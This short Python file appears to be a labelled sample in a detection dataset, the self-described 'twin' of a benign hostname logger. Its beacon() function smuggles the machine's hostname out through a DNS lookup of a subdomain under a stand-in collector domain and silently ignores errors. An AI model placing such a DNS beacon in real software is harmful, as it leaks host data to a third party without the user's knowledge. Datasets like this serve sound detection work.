"""Twin of benign/host_info_logging.py: the host's name read the same way, then looked up under a
collector's domain (a DNS beacon: the resolver carries the name out)."""

import logging
import socket

log = logging.getLogger("hostinfo")


def beacon():
    name = socket.gethostname()
    try:
        socket.gethostbyname(f"{name}.fl-metrics.example.net")
    except OSError:
        pass
    log.info("hostname = %s", name)


if __name__ == "__main__":
    beacon()
